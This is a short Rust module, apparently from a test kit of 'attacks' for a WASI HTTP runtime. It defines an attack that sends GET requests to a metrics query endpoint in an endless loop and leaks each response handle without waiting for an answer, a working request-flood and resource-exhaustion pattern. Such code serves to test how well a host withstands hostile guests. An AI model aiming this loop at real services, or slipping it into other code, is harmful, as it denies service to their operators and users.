//! Sends requests for ever, and waits for no answer.

use wasip2::http::outgoing_handler::handle;

use crate::kit::{Attack, told};
use crate::message::Message;

pub(crate) const ATTACK: Attack = Attack::of_query(|order| {
    let message = Message::get(&order.authority, "/api/v1/query?query=up");
    loop {
        match message.outgoing() {
            Ok(request) => std::mem::forget(handle(request, None)),
            Err(fate) => return told([fate]),
        }
    }
});
